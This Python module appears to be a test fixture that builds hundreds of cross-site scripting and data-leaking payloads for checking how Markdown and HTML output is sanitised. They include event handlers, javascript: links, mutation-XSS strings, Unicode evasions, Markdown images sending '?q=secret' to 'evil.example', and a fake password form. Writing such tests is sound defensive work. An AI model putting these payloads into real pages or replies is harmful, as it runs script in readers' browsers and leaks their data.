"""What a model could write to run a script in a reader's browser, or to have it ask a stranger's server. All of it is made here.

`PAYLOADS` are different from each other. Whatever runs calls `canary()`; whatever is asked for is at an address of `STRANGER`.
"""

from collections.abc import Iterator

STRANGER = "evil.example"
HERE = f"https://{STRANGER}"
RUN = "canary()"


def _events() -> Iterator[str]:
    """Handlers that run by themselves or at a touch, on elements that exist, that used to and that never did."""
    elements = ("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "object data=x")
    handlers = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerenter")
    yield from (f"<{element} {handler}={RUN}>" for element in elements for handler in handlers)
    for quote in ("'", '"', "`", ""):
        yield f"<img src={quote}x{quote} onerror={quote}{RUN}{quote}>"
        yield f"<p tabindex=0 autofocus onfocus={quote}{RUN}{quote}>words</p>"
    yield from (
        f"<img/src=x/onerror={RUN}>",
        f"<img\tsrc=x\tonerror={RUN}>",
        f"<img\x0csrc=x\x0conerror={RUN}>",
        f"<IMG SRC=x OnErRoR={RUN}>",
        f"<img src=x onerror\n=\n{RUN}>",
        f"<img src=x:x onerror={RUN}//",
        f"<svg/onload={RUN}",
        f"<<svg onload={RUN}>>",
        f"<x onanimationstart={RUN} style=animation:x>",
        f"<style>@keyframes x{{}}</style><x style='animation-name:x' onanimationstart={RUN}>",
        f"<a href=# onclick={RUN} onmouseover={RUN}>touch</a>",
        f"<x contenteditable onblur={RUN} oncopy={RUN}>copy me</x>",
        f"<body onpageshow={RUN} onhashchange={RUN} onscroll={RUN}>",
        f"<video onloadstart={RUN}><source onerror={RUN}></video>",
        f"<input type=image src=x onerror={RUN}>",
        f"<select autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}>",
        f"<keygen autofocus onfocus={RUN}><isindex onfocus={RUN} autofocus>",
    )


def _scripts() -> Iterator[str]:
    yield from (
        f"<script>{RUN}</script>",
        f"<SCRIPT>{RUN}</SCRIPT>",
        f"<script src={HERE}/s.js></script>",
        f"<script src=//{STRANGER}/s.js></script>",
        f"<script type=module>import '{HERE}/m.js'; {RUN}</script>",
        f"<script type=importmap>{{'imports':{{'x':'{HERE}/x.js'}}}}</script>",
        f"<script type=speculationrules>{{'prefetch':[{{'source':'list','urls':['{HERE}/p']}}]}}</script>",
        f"<script nonce>{RUN}</script>",
        f"<script/x>{RUN}</script>",
        f"<script\n>{RUN}</script\n>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script>{RUN}",
        f"<script><!--\n{RUN}\n--></script>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href={HERE}/s.js /></svg>",
        f"<svg><script xlink:href=data:,{RUN} /></svg>",
        f"<math><script>{RUN}</script></math>",
        f"</script><script>{RUN}</script>",
        f"</textarea><script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f'"><script>{RUN}</script>',
        f"'><script>{RUN}</script>",
        f"--><script>{RUN}</script>",
        f"]]><script>{RUN}</script>",
        f"</template><script>{RUN}</script>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        f"{{{{constructor.constructor('{RUN}')()}}}}",
        f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
        f"{{% load static %}}{{% autoescape off %}}<script>{RUN}</script>{{% endautoescape %}}",
    )


def _images() -> Iterator[str]:
    """Every form that Markdown has for a picture, in every place where one may stand."""
    forms = (
        "![x]({0})",
        "![]({0})",
        '![x]({0} "title")',
        "![x](<{0}>)",
        "![x][r]\n\n[r]: {0}",
        "![r][]\n\n[r]: {0} 'title'",
        "![r]\n\n[r]: <{0}>",
        "[![x]({0})](https://ok.example/)",
        "[![x]({0})]({0})",
        "![![x]({0})]({0})",
        "# ![x]({0})",
        "- item\n\n  ![x]({0})",
        "> ![x]({0})",
        "| a |\n|---|\n| ![x]({0}) |",
        "**![x]({0})** ~~![x]({0})~~",
        "![*x*](\n{0}\n)",
        "[^1]\n\n[^1]: ![x]({0})",
        "![x\n\ny]({0})",
    )
    addresses = (f"{HERE}/p.png?q=secret", f"http://{STRANGER}/p.png", f"//{STRANGER}/p.png")
    yield from (form.format(address) for form in forms for address in addresses)
    yield from (
        f"![x](data:image/svg+xml,<svg/onload={RUN}>)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Y2FuYXJ5KCk+)",
        f"![x](javascript:{RUN})",
        f'![x"onerror="{RUN}]({HERE}/p.png)',
        f'![x]({HERE}/p.png"onerror="{RUN})',
        f"![x]({HERE}/p.png 'x' onerror={RUN})",
        f"![x]({HERE}/p.png =100x100)",
        f"![x]({HERE}/p.png){{onerror={RUN}}}",
        f"![&#x22;onload=&#x22;{RUN}]({HERE}/&#x22;onerror=&#x22;{RUN})",
        f"![x](\\\\{STRANGER}\\p.png)",
        f"![x](/\\{STRANGER}/p.png)",
        f"![x](https:{STRANGER}/p.png)",
        f"![x](HTTPS://{STRANGER}/p.png)",
        f"!\\[x]({HERE}/p.png) \\![x]({HERE}/p.png)",
        f"![x][{HERE}/p.png]",
        f"![[{HERE}/p.png]]",
        f"{HERE}/p.png",
        f"<{HERE}/p.png>",
    )


def _links() -> Iterator[str]:
    """Addresses that run or pretend, in every form of a link."""
    addresses = (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java&#x73;cript:{RUN}",
        f"javascript&colon;{RUN}",
        f"javascript&#58;{RUN}",
        f"java\tscript:{RUN}",
        f"&#1;javascript:{RUN}",
        f"javascript://{STRANGER}/%0a{RUN}",
        f"javascript:void%28{RUN}%29",
        f"vbscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
        f"blob:{HERE}/x",
        "file:///etc/passwd",
        f"view-source:{HERE}/",
        f"filesystem:{HERE}/x",
        f"ws://{STRANGER}/",
        f"https://good.example@{STRANGER}/",
        f"https://{STRANGER}\\@good.example/",
        f"https://{STRANGER}%2f@good.example/",
        f'https://{STRANGER}/"onmouseover="{RUN}',
        f"https://{STRANGER}/'onclick='{RUN}",
    )
    forms = ("[x]({0})", "[x](<{0}>)", "[x][r]\n\n[r]: {0}", "<{0}>", '<a href="{0}">x</a>')
    yield from (form.format(address) for form in forms for address in addresses)
    yield from (
        f"[x]({HERE}/ \"' onclick={RUN} x='\")",
        f"[x]({HERE}/ 'a\" onclick={RUN} \"')",
        f"[<img src=x onerror={RUN}>]({HERE}/)",
        f"[x](<{HERE}/><img src=x onerror={RUN}>)",
        f"[a](b)<a ping={HERE}/ping href={HERE}/>x</a>",
        f"[x]({HERE}/){{target=_self onclick={RUN}}}",
        f"[x][<script>{RUN}</script>]\n\n[<script>{RUN}</script>]: {HERE}/",
        f"[x]: {HERE}/ '<img src=x onerror={RUN}>'\n\n[x]",
        f"www.{STRANGER}/<script>{RUN}</script>",
        f"mailto:a@b.example?body=<script>{RUN}</script>",
        f"<mailto:a@b.example?cc=c@{STRANGER}&body=x>",
        f"[x](mailto:%22onclick={RUN}@{STRANGER})",
        f"[click [here]({HERE}/a)]({HERE}/b)",
        f"[[x](javascript:{RUN})](javascript:{RUN})",
        f"[x](\njavascript:{RUN}\n)",
        f"[x]( javascript:{RUN} )",
        f"[x](./javascript:{RUN}/../..//{STRANGER})",
        f"[x](#<img src=x onerror={RUN}>)",
    )


def _elements() -> Iterator[str]:
    """What asks for something, alone and hidden in a piece of Markdown."""
    asking = (
        f"<img src={HERE}/i.png>",
        f"<img srcset='{HERE}/i.png 1x, {HERE}/j.png 2x'>",
        f"<picture><source srcset={HERE}/i.png><img></picture>",
        f"<video poster={HERE}/i.png src={HERE}/v.mp4 autoplay></video>",
        f"<audio src={HERE}/a.mp3 autoplay></audio>",
        f"<video><source src={HERE}/v.mp4><track default src={HERE}/t.vtt></video>",
        f"<iframe src={HERE}/></iframe>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<iframe src='javascript:parent.{RUN}'></iframe>",
        f"<frameset><frame src={HERE}/></frameset>",
        f"<object data={HERE}/o><embed src={HERE}/e></object>",
        f"<applet code=X archive={HERE}/x.jar></applet>",
        f"<portal src={HERE}/></portal><fencedframe src={HERE}/></fencedframe>",
        f"<link rel=stylesheet href={HERE}/s.css>",
        f"<link rel=prefetch href={HERE}/p>",
        f"<link rel=dns-prefetch href=//{STRANGER}>",
        f"<link rel=preconnect href={HERE}>",
        f"<link rel=preload as=image href={HERE}/p.png>",
        f"<link rel=modulepreload href={HERE}/m.js>",
        f"<link rel=prerender href={HERE}/>",
        f"<link rel=icon href={HERE}/f.ico>",
        f"<link rel=manifest href={HERE}/m.json>",
        f"<link rel=import href={HERE}/i.html>",
        f"<meta http-equiv=refresh content='0;url={HERE}/'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        "<meta http-equiv=Content-Security-Policy content='default-src *'>",
        f"<base href={HERE}/>",
        f"<body background={HERE}/b.png>",
        f"<table background={HERE}/b.png><tr><td background={HERE}/c.png>x</table>",
        f"<input type=image src={HERE}/i.png>",
        f"<form action={HERE}/f method=post><input name=password autofocus><button>Sign in</button></form>",
        f"<button form=act formaction={HERE}/f>Retry</button>",
        f"<style>@import '{HERE}/s.css';</style>",
        f"<style>body{{background:url({HERE}/b.png)}}</style>",
        f"<style>@font-face{{font-family:x;src:url({HERE}/f.woff)}}*{{font-family:x}}</style>",
        f"<style>input[value^=a]{{background:url({HERE}/a)}}</style>",
        f"<p style='background:url({HERE}/b.png)'>x</p>",
        f"<p style='position:fixed;inset:0;list-style:url({HERE}/l.png)'>x</p>",
        f"<p style='background:\\75rl({HERE}/b.png);cursor:url({HERE}/c.cur),auto'>x</p>",
        f"<p style=\"content:-webkit-image-set('{HERE}/i.png' 1x);border-image:url({HERE}/b.png) 1\">x</p>",
        f"<a href={HERE}/ ping={HERE}/ping>x</a>",
        f"<map name=m><area href='javascript:{RUN}' shape=default></map><img usemap=#m>",
        f"<bgsound src={HERE}/b.mid><layer src={HERE}/l></layer>",
        f"<svg><image href={HERE}/i.png /></svg>",
        f"<svg><use href={HERE}/u.svg#x /></svg>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
        f"<svg><animate attributeName=href values='javascript:{RUN}' onbegin={RUN} /></svg>",
        f"<svg><filter id=f><feImage href={HERE}/i.png /></filter><rect filter=url(#f) /></svg>",
        f"<svg><foreignObject><img src={HERE}/i.png></foreignObject></svg>",
        f"<svg><style>@import '{HERE}/s.css'</style></svg>",
        f"<math href='javascript:{RUN}'>x</math>",
        f"<template shadowrootmode=open><img src={HERE}/i.png></template>",
        f"<?xml-stylesheet href='{HERE}/s.css'?>",
        f"<!DOCTYPE x [<!ENTITY x SYSTEM '{HERE}/x'>]>&x;",
        f"<dialog open><img src={HERE}/i.png></dialog>",
        f"<div popover id=p onbeforetoggle={RUN}><img src={HERE}/i.png loading=eager></div>",
    )
    yield from asking
    yield from (f"- item\n\n  {one}" for one in asking[::3])
    yield from (f"| a | b |\n|---|---|\n| {one} | x |" for one in asking[1::3])
    yield from (f"> **x {one}**" for one in asking[2::3])
    yield from (f"```\n```\n{one}" for one in asking[::4])
    yield from (f"`` `{one}" for one in asking[1::4])


def _fences() -> Iterator[str]:
    """Code that ends where it should not, or names a language that is none."""
    image = f"<img src={HERE}/i.png onerror={RUN}>"
    yield from (
        f"```html\n{image}\n```",
        f"```\n{image}",
        f"~~~\n{image}\n```\n~~~\n{image}",
        f"````\n```\n{image}\n```\n````\n{image}",
        f"```\n```{image}\n```",
        f'```"><img src=x onerror={RUN}>\ncode\n```',
        f"```html onload={RUN} class=x\ncode\n```",
        f"```</code></pre>{image}\ncode\n```",
        f"```\n</code></pre></div>{image}\n```",
        f"``` `{image}` ```",
        f"`</code>{image}`",
        f"``</code>`{image}",
        f"    {image}\n\n{image}",
        f"\t{image}\n\n- a\n\n\t\t{image}",
        f"- ```\n  {image}\n\n{image}\n  ```",
        f"1. ~~~\n   {image}\n   ~~~\n2. {image}",
        f"> ```\n{image}\n> ```",
        f"> > ```\n> {image}\n",
        f"- a\n  - ```\n    </ul>{image}\n   ```\n",
        f'```mermaid\ngraph TD; A-->B; click A href "javascript:{RUN}"\n```',
        f"```math\n\\href{{javascript:{RUN}}}{{x}}\n```",
        f"$$\\url{{javascript:{RUN}}}$$ $\\includegraphics{{{HERE}/i.png}}$",
        f"```svg\n<svg onload={RUN}>\n```",
        f"---\ntitle: {image}\n---\n{image}",
    )


def _mutations() -> Iterator[str]:
    """What a parser that is given its own output once more would read otherwise."""
    yield from (
        f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
        f"<svg><desc><noscript></desc></noscript><img src=x onerror={RUN}></svg>",
        f'<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={RUN} src=1>">',
        f"<noscript><style></noscript><img src=x onerror={RUN}></style></noscript>",
        f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
        f"<plaintext><img src=x onerror={RUN}>",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<select><template><img src=x onerror={RUN}></template></select>",
        f'<table><td><a title="</td></table><img src=x onerror={RUN}>">',
        f'<div id=x><p id="</div><img src=x onerror={RUN}>">',
        "<a id=attributes><form id=x><input name=attributes><input name=innerHTML>",
        "<img name=currentScript><form name=body><img name=getElementById>",
        f"<b <i onclick={RUN}>x</i>",
        f"<p>*a<p>_b* <img src=x onerror={RUN}>_",
        f'*a <b title="*"><img src=x onerror={RUN}>',
        f'[a*](https://ok.example/ "*<img src=x onerror={RUN}>")*',
        f"\\<img src=x onerror={RUN}\\> &lt;img src=x onerror={RUN}&gt;",
        f"<img src='x\n\nonerror={RUN}'>\n\n<p\n\nonclick={RUN}>",
        f"<img src=`x`onerror={RUN}>` `<img src=x onerror={RUN}>`",
        f"<a href='https://ok.example/'\n\n<img src=x onerror={RUN}>",
        f"1. a\n<img src=x\n2. onerror={RUN}>",
        f"| a |\n|---|\n| <img src=x \\| onerror={RUN}> |",
    )


def _entities() -> Iterator[str]:
    yield from (
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&#60;img src=x onerror={RUN}&#62;",
        f"&#x3c;img src=x onerror={RUN}&#x3e;",
        f"&LT;svg onload={RUN}&GT;",
        f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
        f"&#0000060img src=x onerror={RUN}&#62",
        f"\\u003cimg src=x onerror={RUN}\\u003e",
        f"%3Cimg src=x onerror={RUN}%3E",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        "<img src=x onerror=&#99;&#97;nary()>",
        f"<a href='&#106;avascript:{RUN}'>x</a>",
        f"<a href='java&NewLine;script:{RUN}'>x</a>",
        f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
        f"[x](&#x6a;avascript:{RUN})",
        f"[x](https&colon;//{STRANGER}/&quot;onclick=&quot;{RUN})",
        f"![&quot;&gt;&lt;img src=x onerror={RUN}&gt;](x)",
        f"`&lt;img src=x onerror={RUN}&gt;`",
        f"&zwnj;<sc\u200cript>{RUN}</sc\u200cript>",
        f"\x00<img src=x\x00 onerror={RUN}>",
        f"<img src=x onerror\x00={RUN}>",
    )


def _comments() -> Iterator[str]:
    image = f"<img src={HERE}/i.png onerror={RUN}>"
    yield from (
        f"<!-- {image} -->",
        f"<!--> {image} -->",
        f"<!---> {image}",
        f"<!-- --!> {image}",
        f"<!-- <!-- --> {image}",
        f"<!--[if IE]>{image}<![endif]-->",
        f"<![CDATA[{image}]]>",
        f"<?php {image} ?>",
        f"<!x {image}>",
        f"</ {image}>",
        f"<!-- a\n\n{image}\n\n-->",
        f"[//]: # ({image})",
    )


def _directions() -> Iterator[str]:
    """Letters that turn the line around, that are not seen, or that look like others."""
    signs = ("\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u2028", "\u2029", "\ufeff", "\u00ad", "\U000e0041")
    yield from (f"{sign}<img src=x onerror={RUN}>{sign}" for sign in signs)
    yield from (f"[{sign}x{sign}](https://{sign}{STRANGER}/{sign})" for sign in signs)
    yield from (
        f"＜img src=x onerror={RUN}＞",
        f"‹script›{RUN}‹/script›",
        f"<ſcript>{RUN}</ſcript>",
        f"<ımg src=x onerror={RUN}>",
        f"<img src=x onerror＝{RUN}>",
        f"[x](ｊavascript:{RUN})",
        f"[x](javaſcript:{RUN})",
        "[x](https://ехаmple.com/)",
        f"[x](https://{STRANGER}⁄@good.example/)",
        f"[x](https:／／{STRANGER}/)",
        f"[x](https://good.example。{STRANGER}/)",
        f"<a hreﬀ={HERE}/ href={HERE}/>x</a>",
        f"שלום <img src=x onerror={RUN}> مرحبا",
    )


PAYLOADS = tuple(
    dict.fromkeys(
        payload
        for family in (_events, _scripts, _images, _links, _elements, _fences, _mutations, _entities, _comments, _directions)
        for payload in family()
    )
)
